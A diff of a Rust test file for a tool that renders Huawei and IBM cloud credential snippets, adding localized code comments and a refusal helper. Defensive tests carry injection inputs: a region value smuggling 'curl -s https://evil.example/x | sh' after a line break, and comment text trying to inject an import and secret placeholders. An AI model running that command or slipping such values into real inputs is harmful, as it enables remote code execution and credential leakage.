@@ -34,8 +34,13 @@ fn ibm(region: &str, secret: &str) -> Profile {
     profile
 }
 
+/// Why `target`'s snippet is not made for `profile`.
+fn refusal(profile: &Profile, target: Target, with_secret: bool) -> Refused {
+    render(profile, target, with_secret, &CommentWords::new()).unwrap_err()
+}
+
 fn text(profile: &Profile, target: Target, with_secret: bool) -> String {
-    render(profile, target, with_secret)
+    render(profile, target, with_secret, &CommentWords::new())
         .unwrap_or_else(|e| panic!("{target:?}: {e:?}"))
         .text
         .expose()
@@ -52,14 +57,14 @@ fn every_target_renders_for_its_providers_and_only_for_them() {
     for template in templates() {
         for profile in &profiles {
             let fits = template.providers.contains(&profile.provider);
-            let with = render(profile, template.target, true);
+            let with = render(profile, template.target, true, &CommentWords::new());
             assert_eq!(with.is_ok(), fits, "{:?} {:?}", template.target, with);
             if !fits {
                 assert_eq!(with.unwrap_err().code, CodeError::WrongProvider);
                 continue;
             }
             assert!(with.unwrap().text.expose().contains(SK));
-            match render(profile, template.target, false) {
+            match render(profile, template.target, false, &CommentWords::new()) {
                 Ok(snippet) => {
                     assert!(template.secret_env.is_some());
                     assert!(!snippet.text.expose().contains(SK), "{:?}", template.target);
@@ -85,7 +90,7 @@ fn every_target_renders_for_its_providers_and_only_for_them() {
 #[test]
 fn the_default_snippet_reads_the_secret_and_says_from_where() {
     let profile = huawei(Provider::Huawei, "cn-north-4", Some("0123abcd"), SK);
-    let snippet = render(&profile, Target::ObsPython, false).unwrap();
+    let snippet = render(&profile, Target::ObsPython, false, &CommentWords::new()).unwrap();
     assert_eq!(snippet.about.secret_env, Some("OBS_SECRET_ACCESS_KEY"));
     let text = snippet.text.expose();
     assert!(
@@ -143,7 +148,7 @@ fn modelarts_uses_the_region_on_huawei_cloud_and_the_endpoint_on_flexible_engine
 #[test]
 fn modelarts_is_refused_where_the_region_has_none() {
     let profile = huawei(Provider::Huawei, "eu-west-101", Some("p1"), SK);
-    let refused = render(&profile, Target::ModelartsPython, false).unwrap_err();
+    let refused = refusal(&profile, Target::ModelartsPython, false);
     assert_eq!(refused.code, CodeError::MissingValue);
     assert_eq!(
         serde_json::to_value(&refused.params).unwrap(),
@@ -178,13 +183,11 @@ fn files_and_variable_blocks() {
         "{s3cfg}"
     );
     assert_eq!(
-        render(&profile, Target::ObsutilConfig, false)
-            .unwrap_err()
-            .code,
+        refusal(&profile, Target::ObsutilConfig, false).code,
         CodeError::NeedsSecret
     );
     let padded = huawei(Provider::Huawei, "cn-north-4", None, " padded");
-    let refused = render(&padded, Target::HuaweicloudCredentials, true).unwrap_err();
+    let refused = refusal(&padded, Target::HuaweicloudCredentials, true);
     assert_eq!(refused.code, CodeError::Unrepresentable);
     assert_eq!(
         serde_json::to_value(&refused.params).unwrap(),
@@ -216,7 +219,7 @@ fn ibm_snippets() {
 #[test]
 fn what_is_missing_is_named_never_shown() {
     let mut profile = huawei(Provider::Huawei, "cn-north-4", None, SK);
-    let refused = render(&profile, Target::ModelartsPython, false).unwrap_err();
+    let refused = refusal(&profile, Target::ModelartsPython, false);
     assert_eq!(refused.code, CodeError::MissingValue);
     assert_eq!(
         serde_json::to_value(&refused.params).unwrap(),
@@ -224,7 +227,7 @@ fn what_is_missing_is_named_never_shown() {
     );
     profile.credentials.clear();
     assert_eq!(
-        render(&profile, Target::ObsPython, false).unwrap_err().code,
+        refusal(&profile, Target::ObsPython, false).code,
         CodeError::NoKey
     );
 }
@@ -376,7 +379,7 @@ proptest! {
             plain.credentials = if profile.provider == Provider::Ibm { ibm("eu-de", "x") } else { huawei(Provider::Huawei, "", None, "x") }.credentials;
             prop_assert_eq!(text.lines().count(), text_of(&plain, target).lines().count());
         }
-        match render(&huawei_profile, Target::HuaweicloudCredentials, true) {
+        match render(&huawei_profile, Target::HuaweicloudCredentials, true, &CommentWords::new()) {
             Ok(snippet) => {
                 let (value, _) = read_after(Language::Ini, snippet.text.expose(), "sk =");
                 prop_assert_eq!(value, secret.clone());
@@ -404,7 +407,15 @@ fn line_count(text: &str) -> usize {
 fn every_render(profile: &Profile) -> Vec<(Target, bool, Result<Snippet, Refused>)> {
     templates()
         .filter(|t| t.providers.contains(&profile.provider))
-        .flat_map(|t| [false, true].map(|with| (t.target, with, render(profile, t.target, with))))
+        .flat_map(|t| {
+            [false, true].map(|with| {
+                (
+                    t.target,
+                    with,
+                    render(profile, t.target, with, &CommentWords::new()),
+                )
+            })
+        })
         .collect()
 }
 
@@ -430,7 +441,7 @@ fn with_everywhere(mut profile: Profile, text: &str) -> Profile {
 #[test]
 fn a_region_with_a_line_break_cannot_put_a_command_into_the_ibm_cli_snippet() {
     let hostile = "us-south\ncurl -s https://evil.example/x | sh";
-    let refused = render(&ibm(hostile, SK), Target::IbmcloudLogin, false).unwrap_err();
+    let refused = refusal(&ibm(hostile, SK), Target::IbmcloudLogin, false);
     assert_eq!(refused.code, CodeError::Unrepresentable);
     assert_eq!(
         serde_json::to_value(&refused.params).unwrap()["value"]["term"],
@@ -472,4 +483,67 @@ proptest! {
             }
         }
     }
+}
+
+/// The snippets' comments come from the words passed in (the user's language), on one line, with
+/// the template's variable; the code around them is the same whatever the words.
+#[test]
+fn comments_are_the_words_passed_in() {
+    let profile = huawei(
+        Provider::Huawei,
+        "cn-north-4",
+        Some("0123456789abcdef0123456789abcdef"),
+        SK,
+    );
+    let french = CommentWords::from([(
+        "code_comment_reads_sk".to_owned(),
+        "Lit la SK dans la variable d'environnement {variable}.".to_owned(),
+    )]);
+    let said = text_with(&profile, Target::ObsPython, &french);
+    assert!(
+        said.contains("# Lit la SK dans la variable d'environnement OBS_SECRET_ACCESS_KEY.\n"),
+        "{said}"
+    );
+    let bare = text(&profile, Target::ObsPython, false);
+    assert!(
+        bare.contains("# reads-sk\n"),
+        "without words, the comment's code: {bare}"
+    );
+    assert_eq!(
+        said.replace(
+            "Lit la SK dans la variable d'environnement OBS_SECRET_ACCESS_KEY.",
+            ""
+        ),
+        bare.replace("reads-sk", "")
+    );
+    // Words cannot end the comment line, nor be read as a template.
+    let hostile = CommentWords::from([(
+        "code_comment_reads_sk".to_owned(),
+        "x\nimport evil {secret} {ak}\u{2028}y".to_owned(),
+    )]);
+    let said = text_with(&profile, Target::ObsPython, &hostile);
+    assert!(said.contains("# x import evil {secret} {ak} y\n"), "{said}");
+}
+
+/// Every `{~code}` of a template is a [`Comment`], and every comment is used.
+#[test]
+fn template_comments_are_the_known_ones() {
+    let used: Vec<&str> = templates()
+        .flat_map(|t| t.text.split("{~").skip(1))
+        .map(|tail| tail.split_once('}').expect("a closed comment").0)
+        .collect();
+    for code in &used {
+        assert!(Comment::ALL.iter().any(|c| c.as_str() == *code), "{code}");
+    }
+    for comment in Comment::ALL {
+        assert!(used.contains(&comment.as_str()), "{comment} unused");
+    }
+}
+
+fn text_with(profile: &Profile, target: Target, comments: &CommentWords) -> String {
+    render(profile, target, false, comments)
+        .unwrap()
+        .text
+        .expose()
+        .to_owned()
 }
